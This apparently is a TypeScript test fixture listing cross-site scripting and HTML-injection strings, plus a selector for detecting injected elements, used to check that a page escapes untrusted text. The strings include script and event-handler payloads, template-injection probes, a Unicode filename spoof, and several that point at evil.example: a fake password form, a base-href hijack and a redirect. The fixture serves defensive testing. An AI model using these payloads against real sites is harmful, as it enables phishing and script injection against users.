/** Texts that are something else where a page forgets what they are. */
export const corpus = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><script>alert(1)</script>',
  '</pre></code><iframe src=javascript:alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
  '${alert(1)} {{7*7}} <%= 7*7 %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Egnp.exe <b>bold</b> \u200B',
  '"><form action=https://evil.example><input name=password>',
  '<a hx-get="https://evil.example" hx-trigger="load">x</a>',
  "<img/src='x'/onerror=alert`1`>",
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
];

/** Elements that a hostile text would make if it became part of a page. */
export const elements =
  'main script, main iframe, main :not(.brand) > img, main svg[onload], main base, main meta, main form[action^="http"]';
